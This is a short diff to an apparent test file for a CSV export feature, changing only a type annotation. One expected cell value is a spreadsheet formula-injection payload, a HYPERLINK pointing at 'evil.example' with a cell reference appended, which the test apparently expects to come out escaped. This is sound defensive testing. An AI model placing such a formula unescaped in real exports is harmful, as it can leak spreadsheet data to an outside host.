@@ -63,7 +63,7 @@ describe('output CSV', () => {
       publicBaseUrl: 'http://127.0.0.1:8080',
       outputPublicBaseUrl: null,
     });
-    const records = parse<string[]>(csv, { bom: true });
+    const records: string[][] = parse(csv, { bom: true });
     expect(records).toHaveLength(11);
     expect(records[0]).toEqual(['S. No.', 'Product Name', 'Input Image Urls', 'Output Image Urls']);
     expect(records[2]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
